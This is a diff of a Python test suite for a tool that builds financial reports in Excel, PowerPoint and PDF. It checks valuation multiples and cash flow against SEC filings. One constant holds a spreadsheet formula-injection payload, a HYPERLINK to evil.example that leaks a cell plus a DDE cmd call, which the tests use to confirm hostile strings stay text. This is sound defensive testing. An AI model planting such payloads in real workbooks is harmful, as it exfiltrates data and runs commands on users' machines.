@@ -6,9 +6,12 @@ never from the project's parser; the report itself is built from the same payloa
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import functools
 import io
 import json
+import re
 import shutil
 import subprocess
 import zipfile
@@ -21,7 +24,9 @@ from pptx.util import Emu, Inches
 
 from consultantos_assets import report as rpt
 from consultantos_assets.analysis.evidence import build_evidence
+from consultantos_assets.analysis.valuation import multiples
 from consultantos_assets.models import CompanyProfile, Evidence
+from consultantos_assets.report import content
 from consultantos_assets.report.markup import clean
 from consultantos_assets.sources.sec import SnapshotFinancials
 from consultantos_assets_tests.report_fixtures import (
@@ -34,17 +39,22 @@ from consultantos_assets_tests.report_fixtures import (
 )
 
 from .conftest import BUNDLED, artifacts_dir
+from .test_figures import run
 
 CIK = 320193
 RFCWC = "RevenueFromContractWithCustomerExcludingAssessedTax"
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click") @SUM(1+1) +cmd|\' /C calc\'!A0'
 
 
+@functools.cache
+def companyfacts() -> dict:
+    return json.loads((BUNDLED / "sec_edgar" / "companyfacts" / f"CIK{CIK:010d}.json").read_text())
+
+
 def sec_annual_rows(concept: str, unit: str = "USD") -> dict[int, dict]:
     """Fiscal-year rows of one concept straight from SEC's JSON: 10-K, a one-year duration, the row of
     the latest filing for each period end (Apple's fiscal year is named after the year it ends in)."""
-    data = json.loads((BUNDLED / "sec_edgar" / "companyfacts" / f"CIK{CIK:010d}.json").read_text())
-    rows = data["facts"]["us-gaap"][concept]["units"][unit]
+    rows = companyfacts()["facts"]["us-gaap"][concept]["units"][unit]
     best: dict[str, dict] = {}
     for r in rows:
         if r["form"] != "10-K" or "start" not in r:
@@ -126,7 +136,8 @@ def test_deck_is_16_9_with_every_section_in_order(files, sec_report):
     assert (Emu(prs.slide_width).inches, Emu(prs.slide_height).inches) == pytest.approx((13.333, 7.5), abs=1e-3)
     texts = titles(prs)
     expected = ["Apple Inc. (AAPL)", "Executive summary", "Key metrics dashboard", "Revenue and net income",
-                "Margins", "Share price", "Cash flow and multiples", "Comparables", "Porter's five forces",
+                "Margins", "Share price", "Cash flow and capital", "Latest quarter and valuation multiples",
+                "Comparables", "Porter's five forces",
                 "SWOT analysis", "PESTEL analysis", "Blue Ocean: eliminate, reduce, raise, create",
                 "Blue Ocean: strategy canvas", "Risks and data gaps", "What changed", "Sources"]
     at = 0
@@ -222,17 +233,157 @@ def test_workbook_margins_and_growth_are_formulas_over_their_cells(files):
             prev = openpyxl.utils.get_column_letter(cols[year - 1])
             assert f"{letter}{rev_row}/{prev}{rev_row}-1" in ws.cell(growth_row, col).value
             assert wc.cell(growth_row, col).value == pytest.approx(revenue[year] / revenue[year - 1] - 1, rel=1e-12)
-    # the multiples link to the Annual sheet's cells and divide them
-    cf = wb["Cash flow & multiples"]
-    pe_row = row_of(cf, "Price / earnings")
-    formula = cf.cell(pe_row, 2).value
-    assert formula.startswith("=IF(") and "/" in formula
-    eps_row = row_of(cf, "Diluted EPS FY2025")
-    link = cf.cell(eps_row, 2).value
-    assert link == f"='Annual'!{openpyxl.utils.get_column_letter(cols[2025])}{row_of(ws, 'Diluted EPS', head)}"
-    eps = sec_annual("EarningsPerShareDiluted", "USD/shares")[2025]
-    close = cached["Cash flow & multiples"].cell(row_of(cf, "Last close"), 2).value
-    assert cached["Cash flow & multiples"].cell(pe_row, 2).value == pytest.approx(close / eps, rel=1e-12)
+
+
+# ------------------------------------------------------------------- cash flow and multiples
+
+CF = "Cash flow & multiples"
+
+
+def sec_ttm(concept: str, unit: str = "USD") -> float:
+    """Apple's trailing twelve months to 2025-12-27 from SEC's JSON: FY2025 (10-K) + Q1 FY2026 - Q1 FY2025."""
+    rows = companyfacts()["facts"]["us-gaap"][concept]["units"][unit]
+
+    def one(start: str, end: str, form: str) -> float:
+        hits = [r for r in rows if r.get("start") == start and r["end"] == end and r["form"] == form]
+        return float(max(hits, key=lambda r: r["filed"])["val"])
+
+    return one("2024-09-29", "2025-09-27", "10-K") + one("2025-09-28", "2025-12-27", "10-Q") - one(
+        "2024-09-29", "2024-12-28", "10-Q")
+
+
+def bundled_last_close(ticker: str) -> float:
+    with (BUNDLED / "prices_daily" / f"{ticker}.csv").open(newline="") as handle:
+        return float(list(csv.DictReader(handle))[-1]["Close"])
+
+
+def _n(value: object) -> float:
+    return float(value) if isinstance(value, int | float) else 0.0  # Excel's N(): text is 0
+
+
+def evaluate(wb, sheet: str, ref: str) -> object:
+    """A cell computed from the cells its formula references (never its cached value); only the workbook's
+    own formula shapes: a link, =IF(N(x)>0,expr,"n/a") and + - * / over cells and N(cell)."""
+    value = wb[sheet][ref].value
+    if not isinstance(value, str) or not value.startswith("="):
+        return value
+    body = value[1:]
+    if link := re.fullmatch(r"'([^']+)'!([A-Z]+\d+)", body):
+        return evaluate(wb, link[1], link[2])
+    if guard := re.fullmatch(r'IF\(N\(([A-Z]+\d+)\)>0,(.+),"n/a"\)', body):
+        if not _n(evaluate(wb, sheet, guard[1])) > 0:
+            return "n/a"
+        body = guard[2]
+    expr = re.sub(r"N\(([A-Z]+\d+)\)", lambda m: repr(_n(evaluate(wb, sheet, m[1]))), body)
+    expr = re.sub(r"\b([A-Z]+\d+)\b", lambda m: repr(float(evaluate(wb, sheet, m[1]))), expr)
+    assert re.fullmatch(r"[-+*/() .\deE]+", expr), (ref, value, expr)
+    return eval(expr)  # arithmetic only (checked above), in Excel's left-to-right order
+
+
+@pytest.fixture(scope="module")
+def pipeline(tmp_path_factory) -> dict[str, tuple]:
+    """The offline pipeline's AAPL and NVDA reports (bundled SEC facts and prices), each with its workbook
+    read twice: formulas, and the values cached for viewers that do not recalculate."""
+    out = tmp_path_factory.mktemp("pipeline")
+    books = {}
+    for ticker in ("AAPL", "NVDA"):
+        report = run(ticker)[3]
+        path = rpt.render_xlsx(report, out / f"{ticker}.xlsx")
+        books[ticker] = (report, path, openpyxl.load_workbook(path), openpyxl.load_workbook(path, data_only=True))
+    return books
+
+
+@pytest.mark.parametrize("ticker", ["AAPL", "NVDA"])
+def test_workbook_multiples_are_valuations_as_formulas(pipeline, ticker):
+    report, _, wb, cached = pipeline[ticker]
+    ws, wc = wb[CF], cached[CF]
+    expected = multiples(report.financials, content.is_bank(report))  # analysis/valuation.py: the PDF's table
+    assert expected and any(m.value is None for m in expected) and any(m.value is not None for m in expected)
+    head = header_row(ws, "Multiple")
+    for m in expected:
+        row = row_of(ws, m.label, head)
+        if m.value is None:  # n/a in the PDF: n/a text and the reason, never a formula
+            assert ws.cell(row, 2).data_type == "s" and ws.cell(row, 2).value == "n/a"
+            assert ws.cell(row, 4).value == f"n/a: {m.reason}"
+            continue
+        assert ws.cell(row, 2).data_type == "f"
+        assert wc.cell(row, 2).value == m.value, m.key  # the cached value is the PDF's, exactly
+        assert evaluate(wb, CF, f"B{row}") == m.value, m.key  # and so is what the formula computes
+        assert ws.cell(row, 4).value == m.basis
+        assert ws.cell(row, 2).number_format == ('0.00%' if m.key.endswith("yield") else '0.0"x"')
+    # trailing P/E: the last close over the diluted EPS of the period valuation.py uses
+    pe = next(m for m in expected if m.key == "pe_trailing")
+    close_row = row_of(ws, "Last close")
+    eps_row = next(c.row for c in ws["A"] if str(c.value).startswith("Diluted EPS ("))
+    assert ws.cell(eps_row, 1).value == f"Diluted EPS ({pe.period})"
+    assert ws.cell(row_of(ws, "Trailing P/E", head), 2).value == f'=IF(N(B{eps_row})>0,B{close_row}/B{eps_row},"n/a")'
+    assert wc.cell(close_row, 2).value == bundled_last_close(ticker)
+    link = re.fullmatch(r"='Annual'!([A-Z]+)(\d+)", ws.cell(eps_row, 2).value)  # the EPS cell of the Annual sheet
+    annual = wb["Annual"]
+    assert link and annual[f"A{link[2]}"].value == "Diluted EPS"
+    period_head = annual.cell(header_row(annual, "Metric"), openpyxl.utils.column_index_from_string(link[1])).value
+    assert period_head == (content.ttm_label(report.financials.ttm[0].period_end) if pe.period.startswith("TTM")
+                           else pe.period)
+    if ticker == "AAPL":  # TTM EPS, from SEC's JSON; the FY2025-EPS P/E is nowhere in the workbook
+        eps = sec_ttm("EarningsPerShareDiluted", "USD/shares")
+        assert wc.cell(eps_row, 2).value == pytest.approx(eps, rel=1e-12)
+        assert pe.display == f"{bundled_last_close('AAPL') / eps:,.1f}x"
+        annual_pe = bundled_last_close("AAPL") / sec_annual("EarningsPerShareDiluted", "USD/shares")[2025]
+        assert round(annual_pe, 1) != round(pe.value, 1)
+        numbers = [c.value for sheet in cached for row in sheet.iter_rows() for c in row
+                   if isinstance(c.value, float)]
+        assert not any(v == pytest.approx(annual_pe, rel=1e-9) for v in numbers)
+        assert "Price / earnings" not in {c.value for sheet in wb for c in sheet["A"]}
+    else:  # NVIDIA: no marketable securities for FY2026, so EV is n/a and so are the EV multiples
+        ev_row = row_of(ws, "Enterprise value (EV)")
+        assert ws.cell(ev_row, 2).value == "n/a" and "marketable securities" in ws.cell(ev_row, 4).value
+
+
+def test_workbook_cash_flow_equals_sec(pipeline):
+    report, _, wb, cached = pipeline["AAPL"]
+    ws, wc = wb[CF], cached[CF]
+    head = header_row(ws, "Metric")
+    labels = [c.value for c in ws[head]]
+    cols = {int(v[2:]): i + 1 for i, v in enumerate(labels) if str(v).startswith("FY")}
+    ttm_col = next(i + 1 for i, v in enumerate(labels) if str(v).startswith("TTM"))
+    assert labels[ttm_col - 1] == "TTM 2025-12-27" and 2025 in cols
+    for label, concept in (("Operating cash flow", "NetCashProvidedByUsedInOperatingActivities"),
+                           ("Capital expenditure", "PaymentsToAcquirePropertyPlantAndEquipment")):
+        row = row_of(ws, label, head)
+        assert ws.cell(row, 2).value == "USD m"
+        sec = sec_annual(concept)
+        fy2025 = sec_annual_rows(concept)[2025]
+        assert fy2025["end"] == "2025-09-27" and fy2025["form"] == "10-K"
+        for year, col in cols.items():
+            assert wc.cell(row, col).value == sec[year], (label, year)
+            assert ws.cell(row, col).number_format == "#,##0,,;-#,##0,,"
+        assert wc.cell(row, cols[2025]).value == float(fy2025["val"])
+        assert wc.cell(row, ttm_col).value == pytest.approx(sec_ttm(concept), rel=1e-12)
+    # the Annual sheet carries the TTM column the multiples link to; the Quarterly sheet the latest quarter
+    annual = wb["Annual"]
+    assert "TTM 2025-12-27" in [c.value for c in annual[header_row(annual, "Metric")]]
+    quarterly = wb["Quarterly"]
+    assert "FY2026 Q1" in [c.value for c in quarterly[header_row(quarterly, "Metric")]]
+
+
+def test_deck_shows_the_pdfs_multiples(pipeline, tmp_path):
+    report = pipeline["AAPL"][0]
+    prs = Presentation(str(rpt.render_pptx(report, tmp_path / "a.pptx")))
+    slide = prs.slides[titles(prs).index("Latest quarter and valuation multiples")]
+    tables = [s.table for s in slide.shapes if s.has_table]
+    rows = {r.cells[0].text: [c.text for c in r.cells] for t in tables for r in t.rows}
+    pdf = " ".join(rpt.pdf_text(rpt.render_pdf(report, tmp_path / "a.pdf").path)[1].split())
+    eps = sec_ttm("EarningsPerShareDiluted", "USD/shares")
+    pe_text = f"{bundled_last_close('AAPL') / eps:,.1f}x"
+    assert rows["Trailing P/E"][1] == pe_text
+    for m in multiples(report.financials, content.is_bank(report)):
+        label, shown, basis = rows[m.label]
+        assert f"{label} {shown}" in pdf, label  # the PDF's multiples table row: label, then the value
+        assert shown == m.display and basis == (m.basis if m.value is not None else f"n/a: {m.reason}")
+    # the latest quarter with its TTM figure, and the dashboard's trailing P/E
+    assert rows["Diluted EPS"][-1] == f"${eps:,.2f}"
+    dash = slide_texts(prs)[titles(prs).index("Key metrics dashboard")]
+    assert "TRAILING P/E" in dash and pe_text in dash and "TTM REVENUE" in dash
 
 
 def test_workbook_sources_map_evidence_to_accession_and_date(files, sec_report):
@@ -258,7 +409,9 @@ def test_workbook_keeps_hostile_strings_as_text(tmp_path):
     assert injected and all(c.data_type == "s" for c in injected)  # a string, never a formula
     assert any(c.value == f"{HOSTILE_NAME} (AAPL) · strategy report workbook" for c in cells)
     formulas = [c for c in cells if c.data_type == "f"]
-    assert formulas and all(c.value.startswith(("=IF(", "='")) for c in formulas)  # only the workbook's own
+    own = re.compile(r"""^=(IF\(|'[A-Za-z &]+'![A-Z]+\d+$|[A-Z]+\d+[*+])""")  # ratios, links, market cap, EV
+    assert formulas and all(own.match(c.value) for c in formulas), [c.value for c in formulas if not own.match(c.value)]
+    assert not any("HYPERLINK" in c.value or "evil" in c.value for c in formulas)
 
 
 # ------------------------------------------------------------------------------------------- both
@@ -284,8 +437,8 @@ def test_missing_figures_say_not_available(tmp_path):
     r = no_financials_report()
     prs = Presentation(str(rpt.render_pptx(r, tmp_path / "n.pptx")))
     texts = slide_texts(prs)
-    cash = next(t for t in texts if "Cash flow and multiples" in t)
-    assert "Cash flow and capital figures: not available" in cash and "Valuation multiples: not available" in cash
+    assert "Cash flow and capital figures: not available" in next(t for t in texts if "Cash flow and capital" in t)
+    assert "Valuation multiples: not available" in next(t for t in texts if "valuation multiples" in t)
     assert "Comparables: not available" in next(t for t in texts if "Comparables" in t)
     assert "Revenue and net income: not available" in next(t for t in texts if "Revenue and net income" in t)
     wb = openpyxl.load_workbook(rpt.render_xlsx(r, tmp_path / "n.xlsx"))
